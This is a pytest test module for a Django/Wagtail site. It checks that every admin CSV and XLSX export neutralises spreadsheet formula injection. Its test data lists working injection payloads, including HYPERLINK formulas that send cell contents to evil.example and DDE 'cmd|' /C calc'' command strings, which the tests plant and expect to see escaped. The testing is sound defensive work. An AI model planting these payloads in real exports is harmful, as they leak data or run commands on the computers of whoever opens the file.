"""T10 through the admin: every spreadsheet staff can download is
formula-safe (participation/governance/admin_exports.py, config/csvsafe.py).

Wagtail's own exports (every view built on SpreadsheetExportMixin, found by
walking the URL resolver) and the project's own file downloads (found the
same way, by the Content-Disposition in their source) are downloaded as a
signed-in superuser after formula payloads were planted in what they show:
association names and user names in the site history, page titles in the
page reports, workflow and task names in the workflow reports, question
texts, choice labels and free text in the council's files. Every cell that
carries a payload must start with exactly one ``'`` and, in XLSX, be a
string; numbers and dates stay numbers and dates.
"""

import csv
import datetime
import functools
import inspect
import io
from collections import OrderedDict
from http import HTTPStatus

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test import Client, RequestFactory
from django.urls import URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import settings as examples
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormMixin, FormSubmission
from wagtail.contrib.forms.views import SubmissionsListView
from wagtail.log_actions import log
from wagtail.models import (
    Collection,
    GroupApprovalTask,
    Page,
    Workflow,
    WorkflowTask,
    get_page_models,
)

from config.csvsafe import TRIGGERS, is_dangerous, neutralise
from participation.governance import admin_exports
from surveys.models import Answer, QuestionKind, SurveyResponse
from tests.admin_helpers import speaks_english
from tests.participation.factories import AssociationFactory, UserFactory, release_all
from tests.surveys.factories import (
    ChoiceFactory,
    QuestionFactory,
    SectionFactory,
    SurveyFactory,
    WaveFactory,
)

# TESTPLAN T10: each trigger first, and after leading spaces or quotes.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    '  =HYPERLINK("http://evil.example/?s","x")',
    '"=HYPERLINK(""http://evil.example/?q"",""x"")"',
    ' "@SUM(2+2)',
]
# PostgreSQL text cannot hold a NUL (T15), so the NUL prefix is planted on
# SQLite only; the hypothesis tests below cover it on every database.
NUL_PAYLOAD = "\0=1+4"

XLSX = "xlsx"
CSV = "csv"

# Bases that no URL serves by themselves.
ABSTRACT_EXPORT_VIEWS = {
    "wagtail.admin.views.generic.models.IndexView",
    "wagtail.admin.views.reports.base.ReportView",
    "wagtail.admin.views.reports.base.PageReportView",
    # The page explorer and the page-type usage listing are served by
    # ExplorableIndexView and ContentTypeUseView, its subclasses.
    "wagtail.admin.views.pages.listing.IndexView",
}
# The project's apps, whose views that answer with a file are looked for.
OUR_APPS = {"cms", "config", "participation", "surveys"}
# Exports whose rows carry planted data: (what must show up neutralised).
CARRIES = {
    "wagtailadmin_reports:site_history": ("associations", "authors"),
    "wagtailadmin_reports:locked_pages": ("pages", "authors"),
    "wagtailadmin_reports:aging_pages": ("pages", "authors"),
    "wagtailadmin_reports:workflow": ("workflows", "pages"),
    "wagtailadmin_reports:workflow_tasks": ("tasks", "pages"),
}
# The project's own file downloads, each fetched by a test below.
OWN_DOWNLOADS = {
    "participation_data_protection_download",
    "surveys_invitations",
    "surveys_xlsform_export",
    "council:export",
    "council:export_responses",
}


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def payloads() -> list[str]:
    if connection.vendor == "sqlite":
        return [*PAYLOADS, NUL_PAYLOAD]
    return list(PAYLOADS)


def expected(payload: str) -> str:
    """How a planted payload must come out: one apostrophe, no NUL."""
    return "'" + payload.replace("\0", "")


def as_read(text: str) -> str:
    """``text`` as an XLSX reader gets it back: XML reads CR LF and a bare
    CR as LF (XML 1.0, section 2.11)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


# --- parsing the files -------------------------------------------------------


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(content: bytes) -> list[list[str]]:
    """The rows of an RFC 4180 file: records end with CRLF, every record has
    the header's number of fields."""
    text = content.decode("utf-8").removeprefix("\ufeff")
    assert not text or text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows if row}) <= 1, rows[:3]
    return rows


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet (openpyxl, formulas not evaluated)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    ]


def assert_csv_safe(rows: list[list[str]]) -> set[str]:
    """Every text a spreadsheet could run is behind exactly one
    apostrophe; returns the cells."""
    cells = {value for row in rows for value in row}
    for value in cells:
        assert "\0" not in value
        if is_dangerous(value) and not is_number(value):
            assert value.startswith("'"), repr(value)
            assert not value.startswith("''"), repr(value)
    return cells


def assert_xlsx_safe(cells: list) -> set[str]:
    """As assert_csv_safe, and every text cell is a string, never a
    formula; returns the text cells."""
    texts = set()
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            texts.add(cell.value)
    assert_csv_safe([list(texts)])
    return {as_read(text) for text in texts}


# --- the world the exports show ------------------------------------------------


def plant(superuser) -> dict:
    """Every payload as an association name (its creation logged by a user
    whose name is the payload), a page title (published by that user,
    locked by them and in a workflow they started), a workflow name and a
    task name; a collection name and a group name too."""
    home = Page.get_first_root_node().get_children().first()
    for i, payload in enumerate(payloads()):
        author = UserFactory(
            username=payload, first_name=payload, last_name="", email=f"t10-{i}@x.dk"
        )
        association = AssociationFactory(name=payload)
        log(instance=association, action="wagtail.create", user=author)
        page = home.add_child(instance=Page(title=payload, slug=f"t10-{i}"))
        page.save_revision(user=author).publish(
            user=author, skip_permission_checks=True
        )
        workflow = Workflow.objects.create(name=payload)
        task = GroupApprovalTask.objects.create(name=payload)
        WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
        workflow.start(page, author)
        Page.objects.filter(pk=page.pk).update(
            locked=True,
            locked_by=author,
            locked_at=datetime.datetime.now(tz=datetime.UTC),
        )
        Collection.get_first_root_node().add_child(name=payload)
        Group.objects.create(name=payload)
    log(instance=home, action="wagtail.edit", user=superuser)
    kinds = ("associations", "authors", "pages", "workflows", "tasks")
    return {"home": home, **dict.fromkeys(kinds, payloads())}


@pytest.fixture
def superuser_client():
    user = UserFactory(superuser=True, totp=True)
    speaks_english(user)
    client = Client()
    client.force_login(user)
    return client, user


# --- which views export ----------------------------------------------------------


def url_patterns(patterns=None, namespace=()):
    """(url name with namespaces, pattern) of every URL the site serves."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            inner = (*namespace, pattern.namespace) if pattern.namespace else namespace
            yield from url_patterns(pattern.url_patterns, inner)
        elif pattern.name:
            yield ":".join((*namespace, pattern.name)), pattern


def spreadsheet_views() -> dict[str, type]:
    """Url name -> view class of every URL whose view is a
    SpreadsheetExportMixin."""
    found = {}
    for name, pattern in url_patterns():
        view = getattr(pattern.callback, "view_class", None)
        if view and issubclass(view, SpreadsheetExportMixin):
            found[name] = view
    return found


def _functions(callback, seen):
    """The view function or class behind ``callback`` and the decorators
    around it."""
    if id(callback) in seen:
        return
    seen.add(id(callback))
    view = getattr(callback, "view_class", None)
    if view is not None:
        yield view
        return
    yield callback
    if getattr(callback, "__wrapped__", None):
        yield from _functions(callback.__wrapped__, seen)
    for cell in getattr(callback, "__closure__", None) or ():
        try:
            value = cell.cell_contents
        except ValueError:
            continue
        if inspect.isfunction(value) or inspect.isclass(value):
            yield from _functions(value, seen)


def own_file_views() -> set[str]:
    """Url names of the project's views that answer with a file."""
    found = set()
    for name, pattern in url_patterns():
        for target in _functions(pattern.callback, set()):
            module = getattr(target, "__module__", "") or ""
            if module.split(".")[0] not in OUR_APPS:
                continue
            source = inspect.getsource(target)
            if "Content-Disposition" in source or "as_attachment" in source:
                found.add(name)
    return found


def all_subclasses(cls) -> set[type]:
    out = set()
    for sub in cls.__subclasses__():
        out |= {sub, *all_subclasses(sub)}
    return out


def dotted(cls) -> str:
    return f"{cls.__module__}.{cls.__qualname__}"


@pytest.fixture
def served_by(monkeypatch):
    """The SpreadsheetExportMixin classes that wrote a file in this test."""
    classes = set()
    original = SpreadsheetExportMixin.as_spreadsheet

    @functools.wraps(original)
    def spy(self, queryset, spreadsheet_format):
        classes.add(type(self))
        return original(self, queryset, spreadsheet_format)

    monkeypatch.setattr(SpreadsheetExportMixin, "as_spreadsheet", spy)
    return classes


# --- Wagtail's exports -------------------------------------------------------------


def dispatched_urls(world) -> dict[str, str]:
    """Export views that no URL pattern names as its view class (a function
    picks the view per page type): the page explorer and the listing of
    the pages of one type."""
    explore = {"parent_page_id": world["home"].pk}
    page_type = {
        "content_type_app_name": "wagtailcore",
        "content_type_model_name": "page",
    }
    return {
        name: reverse(name, kwargs=kwargs)
        for name, kwargs in (
            ("wagtailadmin_explore", explore),
            ("wagtailadmin_explore_results", explore),
            ("wagtailadmin_pages:type_use", page_type),
            ("wagtailadmin_pages:type_use_results", page_type),
        )
    }


def download(client, url: str, fmt: str):
    response = client.get(url, {"export": fmt})
    assert response.status_code == HTTPStatus.OK, (url, fmt, response)
    assert "attachment" in response["Content-Disposition"], url
    return body(response)


@pytest.mark.django_db
def test_every_wagtail_export_is_formula_safe(superuser_client, served_by, settings):
    # The workflows started below would mail the superuser.
    settings.WAGTAILADMIN_NOTIFICATION_INCLUDE_SUPERUSERS = False
    client, user = superuser_client
    world = plant(user)
    urls = {name: reverse(name) for name in spreadsheet_views()}
    urls |= dispatched_urls(world)
    for name, url in sorted(urls.items()):
        rows = csv_cells(download(client, url, CSV))
        csv_seen = assert_csv_safe(rows)
        xlsx = xlsx_cells(download(client, url, XLSX))
        xlsx_seen = assert_xlsx_safe(xlsx)
        carried = CARRIES.get(name.removesuffix("_results"), ())
        for kind in carried:
            for payload in world[kind]:
                # A user shows as their full name, which Django strips.
                shown = {expected(payload), expected(payload.strip())}
                assert shown & csv_seen, (name, kind, payload)
                assert {as_read(s) for s in shown} & xlsx_seen, (name, kind)
        if carried:
            # Dates stay dates.
            assert any(isinstance(c.value, datetime.datetime) for c in xlsx), name
    # Every class that can export wrote a file in this test.
    concrete = {
        dotted(c)
        for c in all_subclasses(SpreadsheetExportMixin)
        if not c.__module__.startswith("tests.")
    }
    concrete -= ABSTRACT_EXPORT_VIEWS
    concrete.discard(dotted(SubmissionsListView))  # the next test
    assert concrete <= {dotted(c) for c in served_by}


def test_the_resolver_walk_finds_the_reports():
    """The discovery itself works: the site history and the users listing
    are among the exports found."""
    views = spreadsheet_views()
    assert "wagtailadmin_reports:site_history" in views
    assert "wagtailusers_users:index" in views
    assert set(CARRIES) <= set(views)


@pytest.mark.django_db
def test_form_builder_export_is_unreachable_and_wrapped(superuser_client):
    """No page type is a form page, so the form-builder export answers 404;
    were one added, its export (labels as headings, answers as cells) goes
    through the same wrapped mixin."""
    client, user = superuser_client
    assert not [m for m in get_page_models() if issubclass(m, FormMixin)]
    home = Page.get_first_root_node().get_children().first()
    response = client.get(
        reverse("wagtailforms:list_submissions", args=[home.pk]),
        {"export": CSV},
        follow=True,
    )
    assert response.status_code == HTTPStatus.NOT_FOUND

    for i, payload in enumerate(payloads()):
        FormSubmission.objects.create(page=home, form_data={"name": payload, "n": i})

    class StubFormPage:
        id = pk = home.pk
        slug = "t10"

        def get_data_fields(self):
            return [
                ("submit_time", "Submission date"),
                ("name", PAYLOADS[0]),
                ("n", "Number"),
            ]

        def get_submissions(self):
            return FormSubmission.objects.filter(page=home)

        def get_admin_display_title(self):
            return "T10"

    def fetch(fmt):
        request = RequestFactory().get("/", {"export": fmt})
        request.user = user
        view = SubmissionsListView.as_view()
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(
                "wagtail.contrib.forms.views.get_forms_for_user",
                lambda _user: Page.objects.filter(pk=home.pk),
            )
            return body(view(request, form_page=StubFormPage()))

    rows = csv_cells(fetch(CSV))
    assert rows[0][1] == expected(PAYLOADS[0])
    assert {row[1] for row in rows[1:]} == {expected(p) for p in payloads()}
    assert_csv_safe(rows)
    cells = xlsx_cells(fetch(XLSX))
    texts = assert_xlsx_safe(cells)
    assert {as_read(expected(p)) for p in payloads()} <= texts
    # Numbers stay numbers.
    assert {c.value for c in cells if c.data_type == "n"} >= set(range(len(payloads())))


# --- the project's own downloads -------------------------------------------------


def test_every_own_download_is_in_this_test():
    assert own_file_views() == OWN_DOWNLOADS


@pytest.fixture
def survey_world():
    """A single-choice question whose text and choice labels are payloads,
    answered often enough to be shown, and a text question answered with
    every payload, in a wave whose code starts with a hyphen."""
    survey = SurveyFactory(code="t10", title_da=PAYLOADS[0])
    section = SectionFactory(survey=survey, code="s")
    single = QuestionFactory(
        section=section, code="pick", kind=QuestionKind.SINGLE, text_da=PAYLOADS[1]
    )
    for i, payload in enumerate(PAYLOADS[:3]):
        ChoiceFactory(question=single, code=f"c{i}", label_da=payload, sort_order=i)
    text = QuestionFactory(section=section, code="say", kind=QuestionKind.TEXT)
    wave = WaveFactory(survey=survey, code="-t10")
    for n in range(30):
        response = SurveyResponse.objects.create(
            wave=wave,
            language="da",
            channel="web",
            submitted_on=wave.opens_on,
            origin="danish" if n % 2 else "immigrant",
            country_group="",
            receipt_hash=f"{n:064x}",
        )
        Answer.objects.create(response=response, question=single, choice=f"c{n % 3}")
        free = payloads()[n % len(payloads())]
        Answer.objects.create(response=response, question=text, text=free)
    return survey, wave, single


@pytest.mark.django_db
def test_council_exports_are_formula_safe(superuser_client, survey_world):
    client, _user = superuser_client
    _survey, wave, single = survey_world
    release_all()
    page = client.get(
        reverse("council:explorer"),
        {"wave": wave.pk, "question": single.code, "breakdown": "origin"},
    )
    table = page.context["shown"]["table"]
    export = reverse("council:export")
    rows = csv_cells(body(client.post(export, {"table": table.key, "format": CSV})))
    seen = assert_csv_safe(rows)
    assert {expected(p) for p in PAYLOADS[:3]} <= seen
    cells = xlsx_cells(body(client.post(export, {"table": table.key, "format": XLSX})))
    texts = assert_xlsx_safe(cells)
    assert {as_read(expected(p)) for p in PAYLOADS[:3]} <= texts
    assert as_read(expected(PAYLOADS[1])) in texts  # the title, on the notes sheet
    assert any(c.data_type == "n" and c.value for c in cells)

    responses = client.post(reverse("council:export_responses"), {"wave": wave.pk})
    rows = csv_cells(body(responses))
    seen = assert_csv_safe(rows)
    # Free text is scrubbed first; none of these payloads holds PII.
    assert {expected(p) for p in payloads()} <= seen
    assert expected("-t10") in seen


@pytest.mark.django_db
def test_admin_csv_downloads_are_formula_safe(superuser_client, survey_world):
    client, _user = superuser_client
    _survey, wave, _single = survey_world
    data_protection = client.get(
        reverse("participation_data_protection_download", args=[CSV])
    )
    assert data_protection.status_code == HTTPStatus.OK
    assert_csv_safe(csv_cells(body(data_protection)))

    letters = client.post(
        reverse("surveys_invitations"), {"wave": wave.pk, "number": 3}
    )
    assert letters.status_code == HTTPStatus.OK
    rows = csv_cells(body(letters))
    assert_csv_safe(rows)
    # The wave code is a slug: a hyphen is the only trigger it can start with.
    assert {row[2] for row in rows[1:]} == {expected("-t10")}


@pytest.mark.django_db
def test_xlsform_export_keeps_texts_verbatim_as_strings(superuser_client, survey_world):
    """The XLSForm is a round-trip format: the translators' spreadsheet is
    imported back, so a text is written as it is (an apostrophe would become
    part of the text on import). No cell is a formula: every text is a
    string cell."""
    client, _user = superuser_client
    survey, _wave, _single = survey_world
    response = client.get(reverse("surveys_xlsform_export", args=[survey.pk]))
    assert response.status_code == HTTPStatus.OK
    cells = xlsx_cells(body(response))
    texts = set()
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            texts.add(cell.value)
    # The question text and the choice labels, as they were written.
    assert set(PAYLOADS[:3]) <= texts


# --- the wrapped row writers ------------------------------------------------------


class Listing(SpreadsheetExportMixin):
    """A bare export view: a text, a number and a date column."""

    list_export = ["text", "number", "day"]


WHEN = datetime.datetime(2025, 3, 4, 10, 30, tzinfo=datetime.UTC)
prefixes = st.text(alphabet=" \"'\u00a0\n\x0b\x0c", max_size=3)
bodies = st.sampled_from(
    ['HYPERLINK("http://evil.example/?d="&A1,"x")', "cmd|' /C calc'!A0", "SUM(1+1)"]
) | st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=20)


def write_both(value: str) -> tuple[list[str], tuple]:
    """A row with ``value`` written by Listing's CSV and XLSX row writers,
    read back: (the CSV fields, the XLSX cells)."""
    view = Listing()
    row = OrderedDict(text=value, number=-7, day=WHEN)
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=Listing.list_export, lineterminator="\r\n")
    view.write_csv_row(writer, row)
    (csv_row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(view.generate_xlsx_row(sheet, row, date_format="yyyy-mm-dd hh:mm"))
    saved = io.BytesIO()
    book.save(saved)
    return csv_row, next(openpyxl.load_workbook(saved).worksheets[0].iter_rows())


@examples(max_examples=300, deadline=None)
@given(prefix=prefixes, trigger=st.sampled_from(TRIGGERS), rest=bodies)
def test_wrapped_row_writers_neutralise_every_prefixed_payload(prefix, trigger, rest):
    value = prefix + trigger + rest
    csv_row, cells = write_both(value)
    assert csv_row[0] == "'" + value.replace("\0", "")
    assert cells[0].data_type == "s"
    # Without the characters XML cannot hold, behind one apostrophe.
    assert as_read(cells[0].value) == as_read(
        "'" + ILLEGAL_CHARACTERS_RE.sub("", value)
    )
    # Numbers and dates stay numbers and dates.
    assert csv_row[1] == "-7"
    assert (cells[1].data_type, cells[1].value) == ("n", -7)
    assert cells[2].is_date
    assert cells[2].value == WHEN.replace(tzinfo=None)


@examples(max_examples=200, deadline=None)
@given(value=st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30))
def test_any_text_is_written_once_neutralised(value):
    csv_row, cells = write_both(value)
    assert csv_row[0] == neutralise(value)
    written = admin_exports.safe_cell(value, XLSX)
    if written:  # openpyxl reads an empty string back as no value
        assert cells[0].data_type == "s"
        assert as_read(cells[0].value) == as_read(written)


def test_headings_are_neutralised():
    class Headed(Listing):
        export_headings = {"text": "=1+1", "number": "Number"}

    assert Headed().get_heading(None, "text") == "'=1+1"
    assert Headed().get_heading(None, "number") == "Number"


def test_install_is_idempotent():
    before = SpreadsheetExportMixin.preprocess_field_value
    admin_exports.install()
    assert SpreadsheetExportMixin.preprocess_field_value is before
    assert getattr(before, admin_exports.WRAPPED)
